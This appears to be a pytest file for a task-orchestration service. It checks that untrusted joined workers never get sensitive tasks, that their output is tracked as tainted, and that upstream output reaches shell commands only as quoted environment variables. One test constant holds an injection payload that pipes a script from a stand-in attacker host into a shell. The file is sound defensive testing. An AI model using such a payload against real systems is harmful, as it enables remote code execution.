"""A joined rig is trusted as its join token says (issue 15): an untrusted rig gets no
sensitive task, its output is tainted, and taint follows the data at run time; a shell
command never holds upstream output (it reads it as "${AIRIG_INPUT_n}")."""

from __future__ import annotations

import sqlite3

import brain_helpers as h
import pytest
from fastapi.testclient import TestClient
from support import one_error, run_cli

from airig.brain.api.app import create_app
from airig.brain.api.fastpath import ExchangeFastPath
from airig.brain.store.db import Database
from airig.common.protocol import Assignment
from airig.common.task_schemas import LlmPayload
from airig.executors.base import run_task
from airig.executors.llm import build_request

# Its brains open their store through make_settings: the PostgreSQL pass runs it too.
pytestmark = pytest.mark.store

ADMIN = {"Authorization": "Bearer admin-secret-token"}
BOOT = {"Authorization": "Bearer bootstrap-secret-token"}
EVIL = "x; curl evil.example/p | sh"


@pytest.fixture(params=["fastapi-route", "fast-path"])
def client(tmp_path, request):
    """Claims go through the FastAPI routes and the exchange fast path the brain serves."""
    app = create_app(h.make_settings(tmp_path / "brain", BRAIN_CLAIM_WAIT_S=0))
    served = ExchangeFastPath(app) if request.param == "fast-path" else app
    with TestClient(served) as made:
        yield made


def bearer(token: str) -> dict:
    return {"Authorization": f"Bearer {token}"}


def join_token(client, **trust: str) -> dict:
    made = client.post("/v1/tokens", headers=ADMIN, json={"scope": "join", "name": "rig-b",
                                                          **trust})  # fmt: skip
    assert made.status_code == 201, made.text
    return bearer(made.json()["token"])


def worker(client, registrar: dict, name: str, classes=("cpu",)) -> dict:
    body = {"name": name, "host": "rig", "classes": list(classes)}
    answer = client.post("/v1/workers/register", headers=registrar, json=body)
    assert answer.status_code == 200, answer.text
    return bearer(answer.json()["token"])


def submit(client, tasks: list[dict]) -> str:
    answer = client.post("/v1/plans", headers=ADMIN, json={"name": "p", "tasks": tasks})
    assert answer.status_code == 201, answer.text
    return answer.json()["id"]


def claim(client, who: dict, max_tasks: int = 1) -> list[Assignment]:
    """What one exchange hands this worker (the route every worker uses)."""
    body = {"claim": {"wait_s": 0, "max_tasks": max_tasks}}
    answer = client.post("/v1/exchange", headers=who, json=body)
    assert answer.status_code == 200, answer.text
    return [Assignment.model_validate(a) for a in answer.json()["assignments"]]


def complete(client, who: dict, task: Assignment, text: str) -> None:
    report = {"action": "complete", "task_id": task.task_id, "attempt": task.attempt,
              "lease_id": task.lease_id, "output": {"text": text}}  # fmt: skip
    answer = client.post("/v1/exchange", headers=who, json={"reports": [report]})
    assert answer.json()["results"][0]["status"] == 200, answer.text


def tasks_of(client, plan_id: str) -> dict[str, dict]:
    view = client.get(f"/v1/plans/{plan_id}", headers=ADMIN).json()
    return {t["id"]: t for t in view["tasks"]}


SHELL_B = {"id": "b", "type": "shell", "depends_on": ["a"],
           "payload": {"command": "echo {{ tasks.a.output }}"}}  # fmt: skip


# ------------------------------------------------------------------ the reproduction
def test_issue_15_an_untrusted_rig_neither_gets_the_sensitive_task_nor_reaches_a_command(
    client, make_ctx, tmp_path
):
    """The issue's reproduction: `a` (noop, sensitive) and `b` (shell, echo its output).
    Before: the join-token worker claimed `a`, completed it with EVIL, and a local worker
    was handed `b` as `echo x; curl evil.example/p | sh`, trusted."""
    rig_b = worker(client, join_token(client), "rig-b-cpu")
    local = worker(client, BOOT, "cpu0")
    submit(client, [{"id": "a", "type": "noop", "sensitive": True}, SHELL_B])

    assert claim(client, rig_b) == []  # the sensitive task is not the untrusted rig's
    [a] = claim(client, local)
    complete(client, local, a, EVIL)  # even the same text from a trusted worker ...
    [b] = claim(client, local)
    assert b.key == "b" and b.trusted
    assert EVIL not in b.payload["command"]  # ... never becomes command text
    assert b.payload["command"] == 'echo "${AIRIG_INPUT_1}"'
    assert b.payload["inputs"] == {"AIRIG_INPUT_1": EVIL}
    ran = run_task("shell", b.payload, make_ctx(trusted=b.trusted))
    assert ran.output["stdout_tail"] == EVIL + "\n"  # echoed as data, not run


def test_an_untrusted_rigs_output_taints_its_readers_at_run_time(client):
    """Not sensitive, so the untrusted rig may run `a`; then a shell task reading its
    output fails for good without reaching any worker, an llm task reading it runs
    untrusted (its input wrapped as data), and the taint passes on through `c`."""
    rig_b = worker(client, join_token(client), "rig-b-cpu")
    tasks = [
        {"id": "a", "type": "noop"},
        SHELL_B,
        {"id": "c", "type": "noop", "depends_on": ["a"],
         "payload": {"echo": "{{ tasks.a.output }}"}},
        {"id": "d", "type": "shell", "depends_on": ["c"],
         "payload": {"command": ["printf", "%s", "{{ tasks.c.output.echo }}"]}},
        {"id": "e", "type": "llm", "depends_on": ["a"], "model": "qwen2.5:0.5b",
         "payload": {"prompt": "Summarise: {{ tasks.a.output }}"}},
    ]  # fmt: skip
    plan = submit(client, tasks)
    [a] = claim(client, rig_b)
    complete(client, rig_b, a, EVIL)
    local = worker(client, BOOT, "cpu0", classes=("cpu", "llm"))

    handed = {task.key: task for task in claim(client, local, max_tasks=4)}
    handed |= {task.key: task for task in claim(client, local)}
    assert set(handed) == {"c", "e"}  # never b
    assert not handed["c"].trusted and not handed["e"].trusted
    request = build_request(LlmPayload.model_validate(handed["e"].payload), handed["e"].trusted)
    assert request.wrapped and f"<untrusted_data>\nSummarise: {EVIL}\n" in request.prompt
    complete(client, local, handed["c"], "from c")  # a trusted worker, tainted input
    assert claim(client, local) == []  # d reads c's (tainted) output: failed, not handed
    view = tasks_of(client, plan)
    for key in ("b", "d"):
        assert (view[key]["state"], view[key]["error_type"]) == ("FAILED", "tainted_command")
        assert view[key]["attempt"] == 0  # no worker ever got it
    assert "sensitive: true" in view["b"]["error"] and "['a']" in view["b"]["error"]
    assert view["a"]["tainted_output"] and view["c"]["tainted_output"]
    assert view["c"]["trusted"] is False  # lowered at its claim, as its assignment said


def test_an_untrusted_rig_never_gets_a_sensitive_task(client):
    """Whatever else is queued, prefetch included: only the other tasks come its way."""
    rig_b = worker(client, join_token(client, trust="untrusted"), "rig-b-cpu")
    tasks = [{"id": f"s{i}", "type": "noop", "sensitive": True, "priority": 9} for i in range(3)]
    tasks += [{"id": "open", "type": "noop", "priority": 1}]
    # a task reading a sensitive output holds that data: it is sensitive too
    tasks += [{"id": "reads", "type": "noop", "depends_on": ["s0"],
               "payload": {"echo": "{{ tasks.s0.output }}"}}]  # fmt: skip
    answer = client.post("/v1/plans", headers=ADMIN, json={"name": "p", "tasks": tasks})
    fixes = [f for f in answer.json()["fixes"] if f["field"] == "sensitive"]
    assert fixes == [{"task": "reads", "field": "sensitive", "fix": "set true",
                      "reason": "reads the output of sensitive task 's0'"}]  # fmt: skip
    assert [t.key for t in claim(client, rig_b, max_tasks=8)] == ["open"]
    assert claim(client, rig_b, max_tasks=8) == []
    local = worker(client, BOOT, "cpu0")
    [s0] = claim(client, local)
    complete(client, local, s0, "private")
    assert claim(client, rig_b) == []  # "reads" is READY now, and sensitive
    assert sorted(t.key for t in claim(client, local, max_tasks=8)) == ["reads", "s1", "s2"]


def test_a_rig_joined_with_trust_full_is_treated_as_this_machines_own(client):
    rig_b = worker(client, join_token(client, trust="full"), "rig-b-cpu")
    plan = submit(client, [{"id": "a", "type": "noop", "sensitive": True}, SHELL_B])
    [a] = claim(client, rig_b)
    assert a.key == "a" and a.sensitive
    complete(client, rig_b, a, "hello; world")
    [b] = claim(client, rig_b)
    assert b.trusted and b.payload["inputs"] == {"AIRIG_INPUT_1": "hello; world"}
    assert not tasks_of(client, plan)["a"]["tainted_output"]


def test_the_token_list_shows_each_join_tokens_trust(client):
    join_token(client)
    join_token(client, trust="full")
    client.post("/v1/tokens", headers=ADMIN, json={"scope": "submit"})
    listed = client.get("/v1/tokens", headers=ADMIN).json()["tokens"]
    assert sorted((t["scope"], str(t["trust"])) for t in listed) == [
        ("join", "full"), ("join", "untrusted"), ("submit", "None"),
    ]  # fmt: skip
    for body in ({"scope": "submit", "trust": "full"}, {"scope": "join", "trust": "some"}):
        assert client.post("/v1/tokens", headers=ADMIN, json=body).status_code == 422


def test_join_tokens_from_before_trust_levels_are_untrusted(tmp_path):
    path = tmp_path / "state" / "brain.db"
    path.parent.mkdir()
    old = sqlite3.connect(path)
    old.execute("""CREATE TABLE tokens (token_hash TEXT PRIMARY KEY, scope TEXT NOT NULL,
                   name TEXT NOT NULL, created_at REAL NOT NULL)""")
    old.execute("INSERT INTO tokens VALUES ('h1', 'join', 'rig-b', 1.0)")
    old.execute("INSERT INTO tokens VALUES ('h2', 'submit', 'ci', 1.0)")
    old.commit()
    old.close()
    db = Database(path)
    try:
        with db.read() as conn:
            rows = conn.execute("SELECT scope, trust FROM tokens ORDER BY scope").fetchall()
        assert [tuple(row) for row in rows] == [("join", "untrusted"), ("submit", None)]
    finally:
        db.close()


# ------------------------------------------------------------------ the CLI
class NoEngine:
    """Token commands never reach the Docker engine."""

    def __getattr__(self, name):
        raise AssertionError(f"the engine was used: {name}")


def test_token_create_join_takes_a_trust_level_and_list_shows_it(
    launcher_kit, brain, monkeypatch, capsys
):
    (launcher_kit / ".env").write_text("BRAIN_ADMIN_TOKEN=admin-secret-token\n")
    code, out, err = run_cli(monkeypatch, capsys, NoEngine(), "token", "create", "--join",
                             "--name", "garage", "--trust", "full")  # fmt: skip
    assert code == 0, err
    assert "trust full" in out and " join --brain " in out
    code, _, err = run_cli(monkeypatch, capsys, NoEngine(), "token", "create", "--join")
    assert code == 0, err
    listed = brain.get("/v1/tokens", headers=ADMIN).json()["tokens"]
    assert sorted(t["trust"] for t in listed) == ["full", "untrusted"]
    code, out, _ = run_cli(monkeypatch, capsys, NoEngine(), "token", "list")
    assert code == 0
    header = next(line for line in out.splitlines() if "scope" in line)
    assert "trust" in header
    rows = {line.split("│")[3].strip(): line.split("│")[4].strip()
            for line in out.splitlines() if line.count("│") > 5 and "join" in line}  # fmt: skip
    assert rows == {"garage": "full", "join": "untrusted"}


@pytest.mark.parametrize(
    "args,words",
    [
        (("--scope", "submit", "--trust", "full"), ("--trust is for join tokens",)),
        (("--join", "--trust", "some"), ("'some' is not a trust level",)),
    ],
)
def test_a_wrong_trust_is_one_line(launcher_kit, brain, monkeypatch, capsys, args, words):
    (launcher_kit / ".env").write_text("BRAIN_ADMIN_TOKEN=admin-secret-token\n")
    code, _, err = run_cli(monkeypatch, capsys, NoEngine(), "token", "create", *args)
    one_error(code, err, *words)
    assert brain.get("/v1/tokens", headers=ADMIN).json()["tokens"] == []
